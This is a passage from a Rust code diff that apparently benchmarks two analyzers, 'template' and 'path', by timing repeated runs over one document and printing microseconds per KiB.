+                    let mut out = Vec::new();
+                    if which == "template" {
+                        analyze(&s, &mut out);
+                    } else {
+                        super::super::path::analyze(&s, &mut out);
+                    }
+                }
+            }
+            let per_kib = started.elapsed().as_secs_f64() * 1e6 / (rounds as f64 * 3.0 * doc.len() as f64 / 1024.0);
+            println!("{which}: one document of {} bytes, {per_kib:.2} us/KiB", doc.len());
+        }
+    }
+}
